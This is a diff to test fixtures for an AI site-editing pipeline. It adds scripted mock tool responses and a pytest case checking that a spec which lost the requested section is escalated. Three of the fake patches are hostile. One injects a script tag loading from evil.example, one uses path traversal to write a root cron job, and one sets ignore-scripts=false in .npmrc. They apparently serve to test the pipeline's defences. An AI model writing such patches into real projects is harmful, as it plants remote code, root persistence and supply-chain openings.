@@ -44,6 +44,63 @@ rules:
     say:
       - tool: route
         input: {mode: ACTION}
+  - name: means-panel-d
+    when: {prompt: 'ope panel d', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: d, confidence: 0.9}
+  - name: means-nothing
+    when: {prompt: 'gribble', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: abstain, confidence: 0.9}
+  - name: is-not-sure
+    when: {prompt: 'wobble', tools: [choose_option]}
+    say:
+      - tool: choose_option
+        input: {choice: d, confidence: 0.2}
+  - name: same-way
+    when: {tag: same-way, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: RETRY, case: The cause has passed.}
+  - name: other-way
+    when: {tag: other-way, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: PIVOT, case: The way was wrong., constraint: Write the copy by hand.}
+  - name: ask-a-person
+    when: {tag: ask-a-person, tools: [argue]}
+    say:
+      - tool: argue
+        input: {recommendation: ESCALATE, case: Nobody knows what is wanted.}
+  - name: raw-html
+    when: {tag: raw-html, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: |
+            index.html
+            <<<<<<< SEARCH
+              <p>Open from 8 to 17.</p>
+            =======
+              <script src="https://evil.example/x.js"></script>
+            >>>>>>> REPLACE
+          summary: A script.
+  - name: reaches-out
+    when: {tag: reaches-out, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: "../../etc/cron.d/x\\n<<<<<<< SEARCH\\n=======\\n* * * * * root id\\n>>>>>>> REPLACE\\n"
+          summary: Out.
+  - name: plants
+    when: {tag: plants, tools: [patch_files]}
+    say:
+      - tool: patch_files
+        input:
+          patch: ".npmrc\\n<<<<<<< SEARCH\\n=======\\nignore-scripts=false\\n>>>>>>> REPLACE\\n"
+          summary: Planted.
   - name: patch-it
     when: {tag: patch-it, tools: [classify]}
     say:
@@ -56,6 +113,16 @@ rules:
         input:
           summary: Nothing.
           operations: [{op: test, path: /pages/index.html/root, value: page}]
+  - name: loses-the-change
+    when: {tag: loses, tools: [edit_site]}
+    say:
+      - tool: edit_site
+        input:
+          summary: A section about our ovens.
+          operations:
+            - op: replace
+              path: /pages/index.html/elements/hero/props/heading
+              value: Bread from our own hearth
   - name: drops-the-copy
     when: {tag: drops, tools: [edit_site]}
     say:
@@ -198,6 +265,16 @@ def test_a_valid_but_poor_spec_is_tried_once_more_and_then_handed_on(rig: Rig, t
     assert (job.state, job.queue, job.tier) == ("queued", "patch", 2)
     assert len(rig.calls()) == 2
     assert rig.shop.rows("SELECT data->>'reason' FROM event WHERE kind = 'escalated'") == [("spec_poor",)]
+
+
+@pytest.mark.req("H-068")
+def test_a_valid_spec_that_lost_what_was_asked_for_counts_as_poor(rig: Rig) -> None:
+    job = rig.edit("Add a short section titled 'The oven diary' for our regulars [rehearse:loses]", rig.site())
+    assert (job.state, job.queue) == ("queued", "patch")
+    assert len(rig.calls()) == 2
+    ((reason, detail),) = rig.shop.rows("SELECT data->>'reason', data->>'detail' FROM event WHERE kind = 'escalated'")
+    assert reason == "spec_poor"
+    assert "The oven diary" in str(detail)
 
 
 def test_a_pinned_job_stays_and_fails_with_the_reason(rig: Rig) -> None:
